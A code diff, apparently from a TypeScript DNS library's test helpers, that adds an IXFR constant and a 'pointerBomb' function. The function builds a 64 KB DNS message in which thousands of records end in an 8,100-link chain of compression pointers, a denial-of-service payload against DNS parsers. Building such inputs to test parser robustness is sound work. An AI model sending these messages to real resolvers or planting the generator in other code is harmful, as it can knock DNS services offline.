@@ -32,6 +32,7 @@ const numbers: Readonly<Record<string, number>> = {
   RRSIG: 46,
   DNSKEY: 48,
   TLSA: 52,
+  IXFR: 251,
   AXFR: 252,
   ANY: 255,
   CAA: 257,
@@ -59,6 +60,27 @@ export function query(name: string, type: string, options: QueryOptions = {}): B
     opt.writeUInt16BE(dnssecOk ? 0x8000 : 0, 7)
   }
   return Buffer.concat([header, ...labels, end, opt])
+}
+
+/** The longest chain of pointers in a message: each to the one before, and the first to the name `a`. */
+const CHAIN_LENGTH = 8100
+const RECORDS_AT_END = 4000
+
+/** Returns a message of 64 KB in which each of 4,000 records has a name at the end of a chain of pointers. */
+export function pointerBomb(id = ID, flags = RD): Buffer {
+  const header = query('a', 'A', { flags })
+  header.writeUInt16BE(id, 0)
+  const data = header.length + 11
+  const chain = Buffer.alloc(CHAIN_LENGTH * 2)
+  for (let link = 0; link < CHAIN_LENGTH; link++) {
+    chain.writeUInt16BE(0xc000 | (link === 0 ? 12 : data + 2 * (link - 1)), 2 * link)
+  }
+  // Of types and a class that nobody uses.
+  const carrier = Buffer.from([0, 0xff, 0, 0, 1, 0, 0, 0, 0, chain.length >> 8, chain.length & 0xff])
+  const record = Buffer.from([0, 0, 0xff, 1, 0, 1, 0, 0, 0, 0, 0, 0])
+  record.writeUInt16BE(0xc000 | (data + chain.length - 2), 0)
+  header.writeUInt16BE(1 + RECORDS_AT_END, 6)
+  return Buffer.concat([header, carrier, chain, ...Array.from({ length: RECORDS_AT_END }, () => record)])
 }
 
 interface At {
